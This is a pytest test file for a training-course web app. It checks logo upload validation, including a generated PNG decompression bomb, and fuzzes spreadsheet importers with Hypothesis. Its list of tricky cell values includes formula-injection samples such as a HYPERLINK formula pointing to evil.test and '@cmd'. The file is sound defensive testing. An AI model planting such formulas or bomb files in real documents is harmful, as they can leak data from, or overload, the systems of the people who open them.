def logos(app, client, world, tmp_path, monkeypatch):
    """Both logos of the course uploaded, good ones, by its organiser in English."""
    monkeypatch.setitem(app.config, "FILES_DIR", str(tmp_path / "files"))
    as_organiser(client, world)
    base = f"/courses/{world.course.code}/certificates/settings"
    for which, data in (("logo", png()), ("partner_logo", svg('<circle r="4"/>'))):
        assert "Logo saved." in upload(client, f"{base}/{which}", data, "baik").get_data(
            as_text=True)
    return base


def logo_files(world) -> dict[str, bytes]:
    folder = storage.logo_folder(world.course)
    return {path.name: path.read_bytes() for path in folder.iterdir()}


@pytest.mark.parametrize("case", BAD_LOGOS)
def test_a_bad_logo_is_refused_and_the_stored_one_stays(client, world, logos, case):
    which, filename, build, message = BAD_LOGOS[case]
    before, files = database_rows(), logo_files(world)
    served = client.get(f"{logos}/{which}").data
    response = upload(client, f"{logos}/{which}", build(), filename)
    assert message in response.get_data(as_text=True)
    assert "logo" in message.lower()
    assert database_rows() == before and logo_files(world) == files
    assert client.get(f"{logos}/{which}").data == served


def test_a_logo_beyond_the_request_limit_gets_the_too_large_page(app, client, outside,
                                                                 tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "FILES_DIR", str(tmp_path / "files"))
    login(client, outside.email)
    response = upload(client, f"{outside.settings_url}/logo", png(), "logo.png")
    assert "Logo disimpan." in response.get_data(as_text=True)
    files = {path: path.read_bytes() for path in tmp_path.glob("files/logos/*/*")}
    before = rows_outside(app)
    response = upload(client, f"{outside.settings_url}/logo", PNG_SIGNATURE + bytes(17 * MB),
                      "besar.png")
    assert response.status_code == 413
    assert "Berkas lebih besar dari 16 MB" in response.get_data(as_text=True)
    assert rows_outside(app) == before
    assert {path: path.read_bytes() for path in tmp_path.glob("files/logos/*/*")} == files


@pytest.mark.parametrize("truncated_allowed", [False, True],
                         ids=["pillow-alone", "once-weasyprint-is-loaded"])
def test_a_png_with_a_50_mb_comment_is_judged_without_unpacking_it(english, monkeypatch,
                                                                  truncated_allowed):
    # Pillow unpacks at most MAX_TEXT_CHUNK (1 MB) of a text chunk and then gives up on
    # the chunk. Whether it then calls the file damaged depends on a switch WeasyPrint
    # turns when it is loaded: without it the logo is refused as damaged, with it the logo
    # (8 × 8 whole pixels) is taken. (What judging it costs is measured in
    # benchmarks/hostile_uploads.py.)
    bomb = png_with_comment(50)
    assert len(bomb) < 100 * 1024
    assert PngImagePlugin.MAX_TEXT_CHUNK < 50 * MB
    monkeypatch.setattr(ImageFile, "LOAD_TRUNCATED_IMAGES", truncated_allowed)
    if truncated_allowed:
        assert logo_format(bomb) == "png"
    else:
        with pytest.raises(ValidationError) as refused:
            logo_format(bomb)
        assert refused.value.message == DAMAGED_PNG


def test_logos_up_to_the_limits_are_accepted(english):
    assert logo_format(png((4000, 16), mode="1")) == "png"
    assert logo_format(png((16, 4000), mode="1")) == "png"
    for size in ((4001, 16), (16, 4001)):
        with pytest.raises(ValidationError, match="may be at most 4000 pixels"):
            logo_format(png(size, mode="1"))
    exactly_1_mb = svg("<!--" + "x" * (MB - len(svg("<!---->"))) + "-->")
    assert len(exactly_1_mb) == MB
    assert logo_format(exactly_1_mb) == "svg"
    assert logo_format(
        b"\xef\xbb\xbf" + svg('<text>Kabupaten Kutai Timur \u2013 Sangatta</text>')) == "svg"


HONEST_SVG_BODY = '<rect width="40" height="40" fill="#c00"/>'
HONEST_LOGOS = {
    "coreldraw-svg-with-the-svg-1.1-doctype": ("logo", "kabupaten.svg", lambda: svg_in(
        "utf-8", f"<title>Kabupaten Kutai Timur \u2013 Sangatta</title>{HONEST_SVG_BODY}",
        prolog=SVG_11_DOCTYPE)),
    "latin-1-svg-with-an-accented-title": ("partner_logo", "mitra.svg", lambda: svg_in(
        "ISO-8859-1", f"<title>Dinas Pariwisata - Caf\u00e9 \u00d6sterreich</title>"
        f"{HONEST_SVG_BODY}", prolog=SVG_11_DOCTYPE)),
    "windows-1252-svg": ("logo", "logo.svg", lambda: svg_in(
        "windows-1252", f"<title>Pemda \u2013 \u00e9</title>{HONEST_SVG_BODY}")),
    "utf16-svg-with-a-bom": ("logo", "logo.svg", lambda: svg_in(
        "UTF-16", f"<title>Kabupaten \u00e9</title>{HONEST_SVG_BODY}", codec="utf-16",
        prolog=SVG_11_DOCTYPE)),
    "svg-with-other-processing-instructions": ("logo", "logo.svg", lambda: svg(
        f"<metadata><?xpacket begin='' id='W5M0MpCehiHzreSzNTczkc9d'?><?xpacket end='w'?>"
        f"</metadata>{HONEST_SVG_BODY}")),
    "svg-animating-a-link-between-own-targets": ("logo", "logo.svg", lambda: svg(
        '<a href="#x"><animate attributeName="href" values="#a; #b;" dur="1s"/>'
        f"{HONEST_SVG_BODY}</a>")),
    "png-with-16-bytes-after-its-end": ("logo", "logo.png", lambda: png(
        (64, 64), "green") + random.Random(5).randbytes(16)),
    "png-with-its-end-exactly-4-kb-back": ("partner_logo", "mitra.png", lambda: png(
        ) + bytes(4096 - 12)),
}


@pytest.mark.parametrize("case", HONEST_LOGOS)
def test_honest_logos_from_drawing_programs_are_accepted_and_drawn(client, world, logos,
                                                                   case, caplog):
    which, filename, build = HONEST_LOGOS[case]
    data = build()
    response = upload(client, f"{logos}/{which}", data, filename)
    assert "Logo saved." in response.get_data(as_text=True)
    assert data in logo_files(world).values()
    assert client.get(f"{logos}/{which}").data == data
    # WeasyPrint reads it with the same parser and draws it, fetching nothing (not even
    # the DTD the DOCTYPE names: the fetcher would refuse it, and say so in the log).
    caplog.set_level(logging.WARNING, logger="weasyprint")
    kind = "image/png" if filename.endswith(".png") else "image/svg+xml"
    render_pdf(f'<img src="data:{kind};base64,{base64.b64encode(data).decode()}">')
    assert not caplog.records


# --- 4. random tables thrown at the importers (Hypothesis) ------------------------------

# What an .xlsx cannot hold at all (openpyxl refuses to write it), so no file brings it.
XML_ILLEGAL = "".join(map(chr, [*range(9), 11, 12, *range(14, 32)]))
some_text = st.text(st.characters(blacklist_categories=("Cs",),
                                  blacklist_characters=XML_ILLEGAL), max_size=25)
long_text = st.text(st.characters(blacklist_categories=("Cs",),
                                  blacklist_characters=XML_ILLEGAL),
                    min_size=200, max_size=600)
TRICKY = ["", " ", "\u00a0", "\u200b", "'", "-", "=", "=1+1", "=SUM(A1:A9)", "=HYPERLINK("
          "\"http://evil.test\")", "+62 812", "@cmd", "L", "p", "Perempuan", "KPU Kutim",
          " kpu\u00a0kutim ", "Semua tim", "Tim 2", "tim 9", "1; 3", "Telepon", "Merpati",
          "08.30", "8:00", "25:99", "23.60", "31/02/2024", "28/10/2024", "1/11/2024",
          "28 Oktober 2024", "Senin, 28 Oktober 2024", "2024-10-28 00:00", "6408012810860001",
          "'6408012810860001", "6.40801E+15", "6,40801E+15", "19860926 201505 1 001",
          "0812-3456-7890", "Dr. H. Budi, M.Si.; Siti", ";", ";;", "NULL", "None", "nan",
          "inf", "\t", "\n", "Ballroom\nLantai 2", "x" * 81, "x" * 201, "x" * 5000]
cells = st.one_of(
    st.none(), some_text, st.sampled_from(TRICKY), st.builds("={}".format, some_text),
    st.integers(-(10**300), 10**300), st.floats(allow_nan=False, allow_infinity=False),
    st.dates(date(1900, 3, 1), date(2100, 12, 31)),
    st.datetimes(datetime(1900, 3, 1), datetime(2100, 12, 31)),
    st.times(), st.timedeltas(timedelta(0), timedelta(days=2)), long_text,
)


def spelled(spelling: str, how: str) -> str:
    """A header as people type it: case and spacing do not matter."""
    return {"as is": spelling, "upper": spelling.upper(), "lower": spelling.lower(),
            "spaced": f" {spelling.replace(' ', chr(0xA0) + ' ')}\u00a0"}[how]


@st.composite
def tables(draw, importer: Importer, valid_row: Callable):
    """(table, whether the importer must take it): a header of known columns in any
    order and spelling (sometimes one missing, or twice) and unknown ones, maybe a title
    above it, then rows that are valid, random, or valid but for one cell."""
    columns = importer.columns
    complete = draw(st.integers(0, 9)) > 0
    names = [name for name in columns.spellings
             if (complete and name in columns.required) or draw(st.booleans())]
    layout: list[tuple[str | None, str]] = [
        (name, spelled(draw(st.sampled_from(columns.spellings[name])),
                       draw(st.sampled_from(["as is", "upper", "lower", "spaced"]))))
        for name in draw(st.permutations(names))]
    # No separator in unknown headers: a CSV's separator is guessed from its header.
    extras = draw(st.lists(some_text.filter(
        lambda text: columns.name_of(text) is None and not set(text) & set(",;")),
        max_size=2))
    for extra in extras:
        layout.insert(draw(st.integers(0, len(layout))), (None, extra))
    twice = bool(layout) and draw(st.integers(0, 19)) == 0
    if twice:
        layout.append(draw(st.sampled_from(layout)))
    serials = draw(st.lists(st.integers(1, 40), min_size=1, max_size=6))
    rows, all_valid = [], True
    for serial in serials:
        kind = draw(st.sampled_from(["valid", "valid", "random", "one cell off"]))
        if kind == "random":
            row = [draw(cells) for _ in layout]
        else:
            good = valid_row(draw, serial)
            row = [good.get(name, "") if name else draw(cells) for name, _header in layout]
            if kind == "one cell off" and layout:
                row[draw(st.integers(0, len(layout) - 1))] = draw(cells)
        all_valid = all_valid and kind == "valid"
        rows.append(row)
    title = draw(st.sampled_from([[], [["Daftar isian Bimtek"]], [["Daftar isian"], []]]))
    table = [*title, [header for _name, header in layout], *rows]
    # A participant file with a header nobody recognises waits for the organiser's answer.
    asks = importer is PARTICIPANTS and any(header_key(extra) for extra in extras)
    must_take = (complete and not twice and all_valid and bool(serials)
                 and len(set(serials)) == len(serials) and not asks)
    return table, must_take


COURSE_DAYS = [date(2024, 10, 28) + timedelta(days=n) for n in range(5)]


def valid_participant(draw, serial: int) -> dict:
    number = nik(serial)
    return {
        "name": draw(st.sampled_from([f"Peserta {serial}", f" Siti\u00a0 Nur {serial} ",
                                      f"I Gusti Ngurah Rai {serial}"])),
        "front_titles": draw(st.sampled_from(["", "Dr.", "Ir. H."])),
        "back_titles": draw(st.sampled_from(["", "S.Sos.", "M.Si."])),
        "nik": draw(st.sampled_from([number, f"'{number}", f"{number[:6]}\u00a0{number[6:]}",
                                     f"{number[:2]}.{number[2:4]}.{number[4:6]}.{number[6:]}"])),
        "gender": draw(st.sampled_from(["L", "l", "Laki-laki", "PRIA", "M"])),
        "institution": draw(st.sampled_from(["KPU Kutim", " kpu  kutim ", "KPU KUTIM"])),
        "unit": draw(st.sampled_from(["", "PPK", "Satpol PP"])),
        "phone": draw(st.sampled_from(["", "0812-3456-7890", 81234567890,
                                       "+62 812 3456 7890"])),
        "email": draw(st.sampled_from(["", "peserta@example.go.id"])),
    }


def valid_session(draw, serial: int) -> dict:
    starts = 7 + serial % 9
    day = COURSE_DAYS[serial % 5]
    return {
        "day": draw(st.sampled_from([day, datetime.combine(day, clock()),
                                     f"{day.day}/{day.month}/{day.year}", day.isoformat()])),
        "starts_at": draw(st.sampled_from([f"{starts:02d}.00", clock(starts, 0)])),
        "ends_at": draw(st.sampled_from([f"{starts + 1}:30", clock(starts + 1, 30)])),
        "title": f"Materi {serial}",
        "kind": draw(st.sampled_from(["", "Materi", "diskusi", "Coffee Break", "simulation"])),
        "room": draw(st.sampled_from(["", f"Ruang {serial % 3}", "Ballroom"])),
        "speakers": draw(st.sampled_from(["", f"Dr. Budi {serial}, M.Si.",
                                          f"Siti {serial}; Kombes Pol. Andi {serial}"])),
        "institution": draw(st.sampled_from(["", "KPU Kutim", f"Instansi {serial % 4}"])),
        "jp": draw(st.sampled_from([None, 0, 2, "3"])),
    }


def valid_inject(draw, serial: int) -> dict:
    return {
        "number": serial,
        "scenario_time": draw(st.sampled_from(["", "H-1 08.00"])),
        "planned_offset_minutes": draw(st.sampled_from([None, 0, 15, "30", 10080])),
        "delivery": draw(st.sampled_from(["", "Telepon", "medsos", "Berita", "sms"])),
        "sender": draw(st.sampled_from(["", "Camat Kaliorang"])),
        "to": draw(st.sampled_from(["", "Semua tim", "Tim 1", "1; 3", "tim 2, Tim 3"])),
        "message": f"Pesan {serial}",
        "expected_actions": draw(st.sampled_from(["", "Lapor\nKoordinasi"])),
        "objective": draw(st.sampled_from(["", "1", "3", "Mediasi provokasi di desa"])),
    }


def throw_random_file(importer: Importer, world, folder: Path, data, valid_row) -> None:
    table, must_take = data.draw(tables(importer, valid_row), label="table")
    if data.draw(st.booleans(), label="xlsx"):
        filename, payload = "acak.xlsx", xlsx(table)
    else:
        if data.draw(st.integers(0, 9), label="control characters") == 0:
            # A CSV, unlike a workbook, can carry any character: NUL too.
            row = table[data.draw(st.integers(0, len(table) - 1))]
            if row:
                row[data.draw(st.integers(0, len(row) - 1))] = data.draw(
                    st.text(st.characters(max_codepoint=31), min_size=1, max_size=3))
                must_take = False
        filename, payload = "acak.csv", csv_bytes(
            table, delimiter=data.draw(st.sampled_from([";", ","])), bom=data.draw(
                st.booleans()))
    preview = import_once(importer, world, filename, payload, folder)
    if must_take:
        assert preview.ok, preview.errors
    event("written" if preview.ok else "refused by row" if preview.errors[0][0] else
          "refused as a whole")


# Each example makes a course or replaces the MSEL: state the next one does not mind.
# ABUSE_EXAMPLES=700 gives a longer hunt (700 each passed, on SQLite and PostgreSQL).
RANDOM_FILES = settings(
    max_examples=int(os.environ.get("ABUSE_EXAMPLES", "50")), deadline=None,
    suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow,
                           HealthCheck.data_too_large])


@RANDOM_FILES
@given(data=st.data())
def test_random_participant_files_are_imported_whole_or_not_at_all(world, tmp_path, data):
    throw_random_file(PARTICIPANTS, world, tmp_path, data, valid_participant)


@RANDOM_FILES
@given(data=st.data())
def test_random_agenda_files_are_imported_whole_or_not_at_all(world, tmp_path, data):
    throw_random_file(AGENDA, world, tmp_path, data, valid_session)


@RANDOM_FILES
@given(data=st.data())
def test_random_msel_files_are_imported_whole_or_not_at_all(world, tmp_path, data):
    throw_random_file(MSEL, world, tmp_path, data, valid_inject)


# --- 4b. the identity parsers the participant import uses ------------------------------

# Digits and what people put between them, with digits of other scripts that str.isdigit
# accepts and int() may read, but no Indonesian form should.
digitish = st.text(alphabet="0123456789 .-+()'\u00a0\u2013\u2007eE,٠١٢٣٤٥٦٧٨٩０１２３４５６７８９²",
                   max_size=24)
spreadsheet_values = st.one_of(
    st.none(), st.booleans(), st.integers(), st.floats(), st.decimals(), digitish,
    st.text(max_size=30), st.dates(), st.datetimes(), st.times(), st.timedeltas())
national_numbers = st.from_regex(r"[2-9][0-9]{8,12}", fullmatch=True)
PHONE_PATTERN = re.compile(r"\+62[2-9][0-9]{8,12}")
# Not '.': one dot before nothing but zeros is how a CSV writes a float (0812345678.00),
# and is read as one.
PHONE_SEPARATORS = [" ", "-", "\u00a0", "\u2013", "(", ")"]
NIP_SEPARATORS = [" ", "-", "\u00a0", "\u2013"]


def scattered(text: str, draw, separators: list[str]) -> str:
    """`text` with separators put between its characters at random places."""
    characters = list(text)
    for _ in range(draw(st.integers(0, 4))):
        position = draw(st.integers(1, len(characters)))
        characters.insert(position, draw(st.sampled_from(separators)))
    return "".join(characters)


@settings(max_examples=200)
@given(national=national_numbers, data=st.data())
def test_every_way_of_writing_a_phone_number_gives_the_same_plus_62_form(national, data):
    spellings = [f"0{national}", f"+62{national}", f"62{national}", f"0062{national}",
                 f"+62 (0){national}", f"+620{national}"]
    if not national.startswith("62"):  # else it reads as the country code
        spellings.append(national)
    written = scattered(data.draw(st.sampled_from(spellings)), data.draw, PHONE_SEPARATORS)
    assert normalise_phone(written) == f"+62{national}"
    if not national.startswith("62"):
        # Excel's number: the leading 0 dropped, maybe a float, or its text from a CSV.
        for excel in (int(national), float(national), f"{national}.0"):
            assert normalise_phone(excel) == f"+62{national}"


@settings(max_examples=300)
@given(value=spreadsheet_values)
def test_a_phone_cell_is_a_plus_62_number_nothing_or_a_phone_error(value):
    try:
        phone = normalise_phone(value)
    except ValidationError as error:
        assert error.field == "phone" and error.message
        return
    assert phone is None or PHONE_PATTERN.fullmatch(phone), phone
    if phone:
        assert normalise_phone(phone) == phone


@settings(max_examples=300)
@given(value=spreadsheet_values)
def test_what_the_nik_and_nip_parsers_accept_reads_back_the_same(value):
    try:
        number = parse_nik(value)
    except ValidationError as error:
        assert error.field == "nik" and error.message
    else:
        assert re.fullmatch(r"[0-9]{16}", number.digits)
        assert parse_nik(number.digits) == number
    try:
        nip = parse_nip(value)
    except ValidationError as error:
        assert error.field == "nip" and error.message
    else:
        if nip is not None:
            assert re.fullmatch(r"[0-9]{18}", nip.digits)
            assert parse_nip(nip.digits) == nip == parse_nip(format_nip(nip.digits))


@settings(max_examples=200)
@given(born=st.dates(date(1950, 1, 1), date(2000, 12, 31)), years_later=st.integers(18, 40),
       month=st.integers(1, 12), gender=st.sampled_from("12"), serial=st.integers(1, 999),
       data=st.data())
def test_a_nip_reads_the_same_whatever_is_typed_between_its_digits(born, years_later, month,
                                                                   gender, serial, data):
    digits = f"{born:%Y%m%d}{born.year + years_later}{month:02d}{gender}{serial:03d}"
    typed = scattered(digits, data.draw, NIP_SEPARATORS)
    assert parse_nip(typed).digits == digits
    assert parse_nip(f"'{typed}").digits == digits
